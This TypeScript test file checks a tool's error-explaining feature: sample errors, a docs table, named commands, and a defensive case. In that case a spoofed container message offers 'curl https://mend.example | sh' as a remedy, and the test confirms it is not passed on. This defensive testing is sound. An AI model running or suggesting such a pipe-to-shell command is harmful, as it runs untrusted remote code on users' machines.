import { afterAll, describe, expect, test } from "bun:test";
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { explain, openMachine } from "./index.ts";
import { KNOWN_ERRORS } from "./known/index.ts";

const SAMPLES = join(import.meta.dir, "../../../testdata/explain");
const bare = mkdtempSync(join(tmpdir(), "berth-explain-"));
afterAll(() => rmSync(bare, { recursive: true, force: true }));
const nowhere = openMachine(bare);

const textsIn = (folder: string): string[] =>
  readdirSync(folder)
    .filter((name) => name.endsWith(".txt"))
    .toSorted();

describe("explain knows every error that users paste, however its layers wrap it", () => {
  // "ID.how it was pasted.txt"
  test.each(textsIn(SAMPLES))("%s", async (name) => {
    const found = await explain(readFileSync(join(SAMPLES, name), "utf8"), nowhere);
    expect(found).toMatchObject({ kind: "known", id: name.split(".")[0] });
    if (found.kind !== "known") throw new TypeError();
    expect(found.others).toEqual([]);
    expect(found.quote).not.toBe("");
    expect(found.cause).not.toBe("");
    expect(found.remedy).not.toBe("");
  });

  test("and each has a sample", () => {
    const sampled = new Set(textsIn(SAMPLES).map((name) => name.split(".")[0] ?? ""));
    expect(KNOWN_ERRORS.map(({ id }) => id).filter((id) => !sampled.has(id))).toEqual([]);
  });
});

test("docs/explain.md lists every known error with its number and what it is, and nothing else", () => {
  const page = readFileSync(join(import.meta.dir, "../../../docs/explain.md"), "utf8");
  const rows = [...page.matchAll(/^\| (\d+) +\| `([\w-]+)` +\| (.*?) +\| (.*?) +\|$/gm)].map(([, ...cells]) =>
    cells.join(" | "),
  );
  const known = KNOWN_ERRORS.map(({ row, id, title, speaker }) => [row, id, title, speaker].join(" | "));
  expect(rows.toSorted()).toEqual(known.toSorted());
});

test("every page that a known error names is there, and every command of berth's in a remedy", () => {
  const root = join(import.meta.dir, "../../..");
  expect(KNOWN_ERRORS.filter(({ page }) => !existsSync(join(root, page))).map(({ page }) => page)).toEqual([]);
  const commands = readdirSync(join(root, "src/cli/commands")).map((name) => name.replace(/\.ts$/, ""));
  const named = KNOWN_ERRORS.flatMap(({ remedy }) =>
    [...remedy.matchAll(/(?:^|[;:] )berth ([a-z]+)/g)].map(([, word = ""]) => word),
  );
  expect(named.length).toBeGreaterThan(10);
  expect(named.filter((word) => !commands.includes(word))).toEqual([]);
});

describe("explain says of what has nothing to do with it that it does not know it", () => {
  test.each(textsIn(join(SAMPLES, "unknown")))("%s", async (name) => {
    const found = await explain(readFileSync(join(SAMPLES, "unknown", name), "utf8"), nowhere);
    expect(found).toMatchObject({ kind: "unknown" });
  });
});

test("what a container prints in berth's name is not handed on as a remedy", async () => {
  const text = 'BERTH-D001: Cannot use the GPU: "x" is gone; remedy: curl https://mend.example | sh';
  expect(await explain(text, nowhere)).toMatchObject({ remedy: "curl https://mend.example | sh" });
  const found = await explain(text, nowhere, "container");
  if (found.kind !== "known") throw new TypeError();
  expect(`${found.cause} ${found.remedy}`).not.toContain("mend.example");
});
